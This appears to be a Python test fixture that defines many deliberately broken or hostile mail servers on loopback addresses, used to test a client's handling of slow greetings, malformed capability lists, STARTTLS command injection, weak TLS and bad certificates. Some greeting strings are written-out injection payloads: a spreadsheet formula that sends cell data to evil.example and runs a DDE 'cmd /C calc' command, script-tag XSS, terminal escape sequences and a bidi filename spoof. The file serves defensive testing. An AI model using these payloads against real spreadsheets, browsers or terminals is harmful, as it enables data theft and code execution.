# SPDX-License-Identifier: ISC
"""The hostile and odd servers: what each does differently, one loopback address each. What is true of them is in truth/hostile.tsv."""
import os
import ssl
import threading
import time
from dataclasses import dataclass

import flights
import personas_tls
import primes
import records
import suites
from contexts import real
from dialogue import HASHED, NO_LOGIN, NO_TLS, OPTIONAL, REQUIRED, Mail
from endpoints import ALL, CLEAR, IMAP, POP3, SECURED, TLS, first_tls, on, tls_server
from flights import HandMade
from reshaped import reshaped

WITH_TLS = REQUIRED.but(tls=TLS)


@dataclass(frozen=True)
class Persona:
    name: str
    address: str
    services: dict # port: function of a peer


def greets_imap(peer):
    return peer.port in (143, 993)


# Greetings. Those that return False end there; else the dialogue goes on.

def late(seconds):
    def greeting(peer, _):
        time.sleep(seconds)
        peer.send(b"* OK ready\r\n" if greets_imap(peer) else b"+OK ready\r\n")
    return greeting


def in_two_segments(peer, _):
    peer.send(b"* O" if greets_imap(peer) else b"+O")
    time.sleep(0.4)
    peer.send(b"K ready\r\n")


def byte_by_byte(peer, _):
    peer.drip(b"* OK ready\r\n" if greets_imap(peer) else b"+OK ready\r\n", 0.03)


def one_byte_per_second(peer, _):
    peer.drip((b"* OK " if greets_imap(peer) else b"+OK ") + b"welcome to a very slow server " * 4 + b"\r\n", 1)


def endless_drip(peer, _):
    peer.send(b"* OK " if greets_imap(peer) else b"+OK ")
    while True:
        time.sleep(3)
        peer.send(b".")


def megabyte(peer, _):
    peer.send((b"* OK " if greets_imap(peer) else b"+OK ") + b"a" * 1_000_000)
    peer.drain()
    return False


def two_greetings(pause_s):
    def greeting(peer, _):
        peer.send(b"* OK Waiting for authentication process to respond..\r\n")
        time.sleep(pause_s)
        peer.send(b"* OK [CAPABILITY IMAP4rev1 AUTH=PLAIN] ready\r\n")
    return greeting


def endless_greetings(peer, _):
    while True:
        peer.send(b"* OK ready\r\n" * 50)
        time.sleep(0.02)


def says_and_leaves(imap, pop3):
    def greeting(peer, _):
        peer.send((imap if greets_imap(peer) else pop3) + b"\r\n")
        peer.leave()
        return False
    return greeting


def preauthenticated(peer, _):
    peer.send(b"* PREAUTH welcome, you are in already\r\n")
    if peer.line() != b"m9 LOGOUT":
        raise AssertionError("something else than LOGOUT was said after PREAUTH")
    peer.send(b"* BYE see you\r\nm9 OK done\r\n")
    peer.leave()
    return False


class Limits:
    """Refuses connections of a client: too many at once, or too many in a short time."""

    def __init__(self, at_once=None, within_s=None, most=None, is_silent=False):
        self.at_once, self.within_s, self.most, self.is_silent = at_once, within_s, most, is_silent
        self.lock, self.open, self.moments = threading.Lock(), {}, {}

    def refuses(self, client):
        if self.most is None:
            return self.open[client] > self.at_once
        now = time.monotonic()
        self.moments[client] = [moment for moment in self.moments.get(client, ()) if now - moment < self.within_s] + [now]
        return len(self.moments[client]) > self.most

    def __call__(self, mail):
        def handler(peer):
            with self.lock:
                self.open[peer.client] = self.open.get(peer.client, 0) + 1
                refuses = self.refuses(peer.client)
            try:
                if refuses and self.is_silent:
                    peer.reset()
                elif refuses:
                    says_and_leaves(b"* BYE Too many connections from your address", b"-ERR [SYS/TEMP] Too many connections from your address")(peer, None)
                else:
                    mail(peer)
            finally:
                with self.lock:
                    self.open[peer.client] -= 1
        return handler


class BusyFirst:
    """Busy for who comes first after a quiet time, then well."""

    def __init__(self):
        self.last = {}

    def __call__(self, peer):
        is_first = time.monotonic() - self.last.get(peer.client, -1e9) > 20
        self.last[peer.client] = time.monotonic()
        if is_first:
            says_and_leaves(b"* BYE Temporarily out of service, try again later", b"-ERR [IN-USE] maintenance, try again later")(peer, None)
        else:
            NO_TLS(peer)


# Answers to CAPABILITY and CAPA.

def endless_list(peer, _):
    while True:
        peer.send((b"* CAPABILITY IMAP4rev1 AUTH=PLAIN\r\n" if greets_imap(peer) else b"+OK list follows\r\nUSER\r\n") * 20)
        time.sleep(0.02)


def unterminated_list(peer, _):
    peer.send(b"+OK list follows\r\nTOP\r\nUSER\r\nUIDL\r\n")
    return peer


def long_line(size, front):
    def capability(peer, tag):
        words = b" ".join(b"X-FILLER-%06d" % number for number in range(size // 16))
        if greets_imap(peer):
            peer.send(b"* CAPABILITY " + front + b" " + words + b"\r\n" + tag + b" OK done\r\n")
        else:
            peer.send(b"+OK list follows\r\nSTLS\r\nX-LONG " + words + b"\r\n.\r\n")
        return peer
    return capability


def says(imap, pop3=b"-ERR unknown command\r\n"):
    """Answers so; %s in the bytes for IMAP becomes the tag."""
    def answer(peer, tag):
        peer.send(imap.replace(b"%s", tag or b"") if greets_imap(peer) else pop3)
        return peer
    return answer


# Ends in the middle, and what STARTTLS may lead to.

def resets(peer, _=None):
    peer.reset()


def closes(peer, _=None):
    peer.leave()


def hangs(peer, _=None):
    peer.drain()


def tires(peer, _=None):
    """As silent, but not for long: a look at four ports that hang takes minutes."""
    time.sleep(1)
    peer.leave()


def drips(peer, _=None):
    while True:
        peer.send(b"*" if greets_imap(peer) else b"+")
        time.sleep(3)


def agrees_and(then):
    """A function for Mail.tls: after the agreement, this, and never TLS."""
    def tls(peer):
        then(peer)
        return None
    return tls


def sends_garbage(peer):
    if peer.any_bytes():
        peer.send(os.urandom(1).replace(b"\x16", b"\x17").replace(b"\x15", b"\x17") + b"\x00\xff\x00 this is not TLS \r\n" * 3)
        peer.leave()


def answers_in_clear(peer):
    if peer.any_bytes():
        peer.send(b"* BAD invalid command\r\n" if greets_imap(peer) else b"-ERR invalid command\r\n")
        peer.drain()


def alerts_early(peer):
    peer.send(records.alert(flights.HANDSHAKE_FAILURE))
    peer.leave()


def resets_in_tls(peer):
    hello, _ = flights.read_client_hello(peer)
    if hello is not None:
        peer.send(records.records(suites.TLS12, flights.flight(hello, suites.TLS12, suites.RSA_AES128_SHA, ends_after=flights.SERVER_HELLO)))
        time.sleep(0.2)
        peer.reset()


def stops_after_server_hello(peer):
    hello, _ = flights.read_client_hello(peer)
    if hello is not None:
        peer.send(records.records(suites.TLS12, flights.flight(hello, suites.TLS12, suites.RSA_AES128_SHA, ends_after=flights.SERVER_HELLO)))
        peer.drain()


def injectable(is_deferred):
    """Commands that came in clear behind STARTTLS are carried out inside TLS, at once or when the first command there makes the server read again."""
    def starttls(peer, tag):
        behind, peer.buffer = peer.buffer, b""
        peer.send(tag + b" OK begin TLS now\r\n" if tag else b"+OK begin TLS now\r\n")
        peer = TLS(peer)
        if not is_deferred or not behind:
            peer.buffer = behind
        else:
            peer.buffer = behind + peer.line() + b"\r\n" + peer.buffer
        return peer
    return starttls


# Other protocols.

def greets_with(data):
    def handler(peer):
        peer.send(data)
        peer.drain()
    return handler


def answers_with(data):
    """Silent until something is said."""
    def handler(peer):
        if peer.any_bytes():
            peer.send(data)
            peer.leave()
    return handler


HTTP = b"HTTP/1.1 400 Bad Request\r\nServer: lab\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"


OLD = {"lowest": ssl.TLSVersion.TLSv1, "highest": ssl.TLSVersion.TLSv1}
NEW = {"lowest": ssl.TLSVersion.TLSv1_3}
AT_MOST_12 = {"highest": ssl.TLSVersion.TLSv1_2}
ONE = Limits(at_once=1)
BAN = Limits(within_s=10, most=6, is_silent=True)

# Name: services. The order gives the addresses: add new ones at the end.
TABLE = {
    "silent": on(IMAP, hangs),
    "greeting-after-12-s": on(CLEAR, NO_TLS.but(greeting=late(12))),
    "greeting-after-25-s": on(CLEAR, NO_TLS.but(greeting=late(25))),
    "greeting-in-two-segments": on(CLEAR, NO_TLS.but(greeting=in_two_segments)),
    "greeting-byte-by-byte": on(CLEAR, NO_TLS.but(greeting=byte_by_byte)),
    "greeting-of-a-megabyte": on(CLEAR, NO_TLS.but(greeting=megabyte)),
    "greeting-with-nul": on(CLEAR, NO_TLS.but(text=b"re\x00ady\x00")),
    "greeting-with-controls": on(CLEAR, NO_TLS.but(text=b"\x1b[2J\x1b]0;owned\x07\x08\x08 ready \x7f\x9b31m")),
    "greeting-with-bidi": on(CLEAR, NO_TLS.but(text="\u202egnp.exe \u2066ready\u2069 \u200f\ufeff".encode())),
    "greeting-in-utf-8": on(CLEAR, NO_TLS.but(text="Grüße, 準備完了 ✓ \U0001f4e7".encode() + b" \xff\xfe\xc3")),
    "greeting-with-formula": on(CLEAR, NO_TLS.but(text=b"=HYPERLINK(\"http://evil.example/?\"&A1,\"ok\")\t@SUM(1+1)*cmd|' /C calc'!A0")),
    "greeting-with-html": on(CLEAR, NO_TLS.but(text=b"<script>alert(1)</script><img src=x onerror=alert(2)>&amp;\"'</td>")),
    "bare-ok": on(POP3, NO_TLS.but(text=b"", greeting=lambda peer, _: peer.send(b"+OK\r\n"))),
    "two-greetings-at-once": on(IMAP, NO_TLS.but(greeting=two_greetings(0))),
    "two-greetings-apart": on(IMAP, NO_TLS.but(greeting=two_greetings(1.5))),
    "endless-greetings": on(IMAP, NO_TLS.but(greeting=endless_greetings)),
    "busy": on(CLEAR, NO_TLS.but(greeting=says_and_leaves(b"* BYE Too many connections, try again later", b"-ERR [SYS/TEMP] Too many connections"))),
    "busy-at-first": {143: BusyFirst(), 110: BusyFirst()},
    "refuses-our-address": on(CLEAR, NO_TLS.but(greeting=says_and_leaves(b"* BYE Access denied: your address is blacklisted",
                                                                         b"-ERR Access denied: your address is blacklisted"))),
    "preauth": on(IMAP, NO_TLS.but(greeting=preauthenticated)),
    "endless-capabilities": on(CLEAR, NO_TLS.but(capability=endless_list)),
    "unterminated-capa": on(POP3, NO_TLS.but(capability=unterminated_list)),
    "capabilities-of-64-kb": on(CLEAR, WITH_TLS.but(capability=long_line(65536, b"IMAP4rev1 STARTTLS LOGINDISABLED"))),
    "capabilities-of-20-kb": on(CLEAR, WITH_TLS.but(capability=long_line(20480, b"IMAP4rev1 STARTTLS LOGINDISABLED"))),
    "literal-in-capability": on(IMAP, WITH_TLS.but(capability=says(b"* CAPABILITY IMAP4rev1 {8}\r\nX-LITERA STARTTLS LOGINDISABLED\r\n%s OK done\r\n"))),
    "literal-with-reply-inside": on(IMAP, WITH_TLS.but(capability=says(b"* CAPABILITY IMAP4rev1 {12}\r\n%s OK done\r\n STARTTLS LOGINDISABLED\r\n%s OK done\r\n"))),
    "lower-case": on(CLEAR, WITH_TLS.but(imap="imap4rev1 starttls logindisabled", pop3=("top", "stls", "sasl"))),
    "imap4rev2-only": on(IMAP, WITH_TLS.but(imap="IMAP4rev2 STARTTLS LOGINDISABLED", imap_inside="IMAP4rev2 AUTH=PLAIN")),
    "untagged-before-replies": on(IMAP, WITH_TLS.but(before_reply=b"* 5 EXISTS\r\n* OK still here\r\n* X-WHATEVER m1 OK m4 OK\r\n")),
    "capa-refused-but-stls": on(CLEAR, WITH_TLS.but(capability=says(b"%s BAD unknown command\r\n"))),
    "starttls-hidden": on(CLEAR, WITH_TLS.but(imap="IMAP4rev1 LOGINDISABLED", pop3=("TOP", "SASL"))),
    "starttls-hidden-and-plain": on(CLEAR, WITH_TLS.but(imap="IMAP4rev1 AUTH=PLAIN", pop3=("TOP", "USER", "SASL PLAIN"))),
    "starttls-refused": on(CLEAR, OPTIONAL.but(starttls=says(b"%s NO not today\r\n", b"-ERR not today\r\n"))),
    "starttls-unknown": on(CLEAR, OPTIONAL.but(starttls=says(b"%s BAD unknown command\r\n", b"-ERR unknown command\r\n"))),
    "starttls-busy": on(CLEAR, OPTIONAL.but(starttls=says(b"%s NO [UNAVAILABLE] TLS is temporarily unavailable\r\n", b"-ERR [SYS/TEMP] TLS is temporarily unavailable\r\n"))),
    "starttls-unanswered": on(CLEAR, OPTIONAL.but(starttls=hangs)),
    "agrees-then-closes": on(CLEAR, OPTIONAL.but(tls=agrees_and(closes))),
    "agrees-then-resets": on(CLEAR, OPTIONAL.but(tls=agrees_and(resets))),
    "agrees-then-hangs": on(CLEAR, OPTIONAL.but(tls=agrees_and(hangs))),
    "agrees-then-garbage": on(CLEAR, OPTIONAL.but(tls=agrees_and(sends_garbage))),
    "agrees-then-clear-text": on(CLEAR, OPTIONAL.but(tls=agrees_and(answers_in_clear))),
    "agrees-then-alert": on(CLEAR, OPTIONAL.but(tls=agrees_and(alerts_early))),
    "server-hello-then-reset": on(CLEAR, OPTIONAL.but(tls=agrees_and(resets_in_tls))),
    "server-hello-then-silence": on(CLEAR, OPTIONAL.but(tls=agrees_and(stops_after_server_hello))),
    "injection-at-once": on(CLEAR, REQUIRED.but(starttls=injectable(False))),
    "injection-deferred": on(CLEAR, REQUIRED.but(starttls=injectable(True))),
    "user-listed-but-refused": on(POP3, WITH_TLS.but(pop3=("TOP", "STLS", "USER"), bare_auth=b"-ERR TLS required to log in.\r\n")),
    "reset-at-bare-auth": on(POP3, WITH_TLS.but(pop3=("TOP", "STLS", "USER"), bare_auth=resets)),
    "plain-before-tls": tls_server(TLS, OPTIONAL),
    "hashed-only": on(CLEAR, HASHED.but(tls=TLS)),
    "hashed-only-no-tls": on(CLEAR, Mail(imap="IMAP4rev1 LOGINDISABLED AUTH=CRAM-MD5", pop3=("TOP", "SASL CRAM-MD5"))),
    "no-login-no-tls": on(CLEAR, NO_LOGIN),
    "bare-line-feeds": on(CLEAR, NO_TLS.but(end=b"\n")),
    "ssh": on(CLEAR, greets_with(b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n")),
    "http": on(CLEAR, greets_with(HTTP)),
    "http-when-asked": on(CLEAR, answers_with(HTTP)),
    "smtp": on(CLEAR, greets_with(b"220 mail.lab.example ESMTP Postfix\r\n")),
    "ftp": on(CLEAR, greets_with(b"220 (vsFTPd 3.0.3)\r\n")),
    "vnc": on(CLEAR, greets_with(b"RFB 003.008\n")),
    "telnet": on(CLEAR, greets_with(b"\xff\xfd\x18\xff\xfd\x20\xff\xfd\x23\xff\xfd\x27")),
    "mysql": on(CLEAR, greets_with(b"\x4a\x00\x00\x00\x0a8.0.36\x00\x08\x00\x00\x00abcdefgh\x00")),
    "imap-on-110-pop3-on-143": {110: NO_TLS.but(speaks="imap"), 143: NO_TLS.but(speaks="pop3")},
    "tls-on-plain-ports": on(CLEAR, first_tls(NO_TLS)),
    "clear-text-on-tls-ports": on(SECURED, NO_TLS),
    "starttls-on-tls-ports": on(SECURED, WITH_TLS),
    "ssh-on-tls-ports": on(SECURED, greets_with(b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n")),
    "smtp-inside-tls": on(SECURED, first_tls(greets_with(b"220 mail.lab.example ESMTP Postfix\r\n"))),
    "silent-inside-tls": on(SECURED, first_tls(hangs)),
    "closes-at-once": on(ALL, closes),
    "resets-at-once": on(ALL, resets),
    "closes-on-tls-ports-only": {**on(CLEAR, NO_TLS), **on(SECURED, closes)},
    "reset-after-greeting": on(CLEAR, NO_TLS.but(greeting=lambda peer, _: (peer.send(b"* OK ready\r\n" if greets_imap(peer) else b"+OK ready\r\n"), time.sleep(0.05),
                                                                         peer.reset(), False)[-1])),
    "close-after-greeting": on(CLEAR, NO_TLS.but(greeting=says_and_leaves(b"* OK ready", b"+OK ready"))),
    "reset-at-capability": on(CLEAR, NO_TLS.but(capability=resets)),
    "reset-after-capability": on(CLEAR, OPTIONAL.but(starttls=resets)),
    "one-byte-per-second": on(CLEAR, NO_TLS.but(greeting=one_byte_per_second)),
    "drips-forever": on(CLEAR, NO_TLS.but(greeting=endless_drip)),
    "drips-at-capability": on(CLEAR, NO_TLS.but(capability=drips)),
    "tls10-only": tls_server(real(**OLD)),
    "ssl3-strict": tls_server(HandMade(suites.SSL3, [suites.RSA_RC4_128_SHA, suites.RSA_3DES_SHA], is_strict=True)),
    "sslv3-only": tls_server(HandMade(suites.SSL3, [suites.RSA_3DES_SHA])),
    "rc4-only": tls_server(HandMade(suites.TLS10, [suites.RSA_RC4_128_SHA])),
    "rc4-only-tls12": tls_server(HandMade(suites.TLS12, [suites.RSA_RC4_128_SHA])),
    "export-only": tls_server(HandMade(suites.TLS10, [suites.RSA_RC4_40_MD5])),
    "common-dh1024": tls_server(real(**AT_MOST_12, ciphers="DHE-RSA-AES128-GCM-SHA256", prime=primes.COMMON_1024)),
    "tls13-only-own": tls_server(real(**NEW)),
    "client-certificate": tls_server(real(**AT_MOST_12, wants_client_certificate=True)),
    "client-certificate-tls13": tls_server(real(wants_client_certificate=True)),
    "chain-of-40-kb": tls_server(real(extra_certificates=48)),
    "chain-200k": tls_server(real(extra_certificates=250)),
    "cert-expired": tls_server(real(certificate="expired")),
    "cert-not-yet-valid": tls_server(real(certificate="not-yet-valid")),
    "cert-self-signed": tls_server(real(certificate="self-signed")),
    "cert-wrong-name": tls_server(real(certificate="wrong-name")),
    "cert-rsa512": tls_server(real(**AT_MOST_12, certificate="rsa-512")),
    "cert-rsa1024": tls_server(real(certificate="rsa-1024")),
    "cert-md5": tls_server(real(certificate="md5")),
    "cert-sha1": tls_server(real(certificate="sha1")),
    "ecdsa": tls_server(real(certificate="ecdsa")),
    "tiny-records": tls_server(reshaped(record_size=7)),
    "warning-before-hello": tls_server(reshaped(warning=flights.UNRECOGNIZED_NAME)),
    "one-connection-at-once": on(CLEAR, ONE(NO_TLS)),
    "ban-after-six": on(CLEAR, BAN(NO_TLS)),
    "syn-proxy": on(ALL, lambda peer: peer.any_bytes() and peer.reset()),
    "closed": {},
    "silent-on-tls-ports": on(SECURED, hangs),
    "http-on-tls-ports": on(SECURED, answers_with(HTTP)),
    **personas_tls.TABLE,
    "accepts-everything": {**on((110, 143, 993), tires), **on((995,), hangs)},
    "mail-ports-silent": {**on((110, 995), tires), **on((143, 993), hangs)},
}
# These listen on every port of 40000 to 60000 too (rule D-7).
ACCEPT_EVERYTHING = {"accepts-everything"}
PERSONAS = [Persona(name, f"127.20.0.{number}", services) for number, (name, services) in enumerate(TABLE.items(), 1)]
